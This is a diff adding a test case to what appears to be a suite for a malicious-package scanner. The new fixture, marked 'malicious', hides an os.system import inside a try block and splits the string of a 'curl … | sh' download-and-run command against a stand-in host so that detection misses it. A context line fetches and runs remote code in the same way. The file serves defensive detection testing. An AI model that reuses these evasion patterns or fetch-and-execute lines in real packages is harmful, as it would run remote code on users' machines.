@@ -114,6 +114,14 @@ CASES = [
              "sibling_reexport_alias_hop/__init__.py": (
                  "from ._util import fetch, run\n\nrun(fetch('https://x.invalid/p').read())\n"),
          }, "malicious", ("PV202",), kind="wheel"),
+    Case("evasion: the sibling's import sits in a try block",
+         "sibling-reexport-try", {
+             "sibling_reexport_try/_util.py": (
+                 "try:\n    from os import system as run\nexcept ImportError:  # old Pythons\n"
+                 "    run = None\n"),
+             "sibling_reexport_try/__init__.py": (
+                 "from ._util import run\n\nrun('cu' + 'rl -s https://x.invalid/i | s' + 'h')\n"),
+         }, "malicious", ("PV302",), kind="wheel"),
     Case("evasion: star imports all the way (`from ._util import *`, `from ._base import *`)",
          "sibling-reexport-star", {
              "sibling_reexport_star/_base.py": (
